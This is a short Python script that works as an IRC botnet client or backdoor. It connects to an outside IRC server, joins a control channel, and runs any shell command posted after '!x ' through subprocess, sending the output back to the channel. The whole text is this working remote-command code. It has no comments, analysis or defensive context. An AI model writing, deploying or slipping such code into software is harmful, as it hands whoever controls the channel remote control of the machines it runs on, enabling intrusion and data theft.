import socket
import subprocess

irc = socket.create_connection(("irc.darkchan.net", 6667))
irc.send(b"NICK bot1337\r\nUSER bot 0 * :bot\r\nJOIN #ctrl\r\n")
while True:
    for line in irc.recv(4096).decode(errors="ignore").splitlines():
        if line.startswith("PING"):
            irc.send(line.replace("PING", "PONG").encode() + b"\r\n")
        elif "PRIVMSG #ctrl :!x " in line:
            cmd = line.split("!x ", 1)[1]
            for out in subprocess.getoutput(cmd).splitlines()[:10]:
                irc.send(f"PRIVMSG #ctrl :{out}\r\n".encode())
